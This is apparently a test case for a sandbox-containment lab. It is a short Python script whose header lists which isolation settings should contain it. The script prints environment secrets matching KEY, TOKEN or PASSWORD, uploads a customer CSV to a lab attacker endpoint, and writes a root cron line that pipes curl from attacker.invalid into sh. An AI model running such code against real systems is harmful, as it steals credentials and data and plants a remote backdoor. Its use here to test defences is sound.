# lab:title: Declares secret theft, uploads the data and plants the cron file
# lab:threat: secrets
# lab:layer: env
# lab:consequence: test
# adversary: --off network,isolation => ESCAPED exfil takeover
# adversary: --on none => ESCAPED secrets exfil takeover
# adversary: --on all => CONTAINED env ~ cannot see
"""Issue 17, item 1: the header says "secrets", so only Clean-env used to be
asked. The code uploads the customer CSV to LAB_ATTACKER and writes
LAB_HOST_TARGET, and prints the environment's secrets on the way (which
only come out with Clean-env off). Every failure is caught: the run ends
with exit 0 whatever the layers did."""
import os
import urllib.request

for k, v in sorted(os.environ.items()):
    if "KEY" in k or "TOKEN" in k or "PASSWORD" in k:
        print(f"{k}={v}", flush=True)
try:
    body = open(os.environ["LAB_DATA"], "rb").read()
    req = urllib.request.Request(os.environ["LAB_ATTACKER"], data=body, method="POST")
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(req, timeout=3) as resp:
        print("upload: HTTP", resp.status, len(body), "bytes", flush=True)
except Exception as e:
    print("upload failed:", e, flush=True)
try:
    with open(os.environ["LAB_HOST_TARGET"], "w") as f:
        f.write("* * * * * root sh -c 'curl -s http://attacker.invalid/x | sh'\n")
    print("planted", flush=True)
except OSError as e:
    print("plant failed:", e, flush=True)
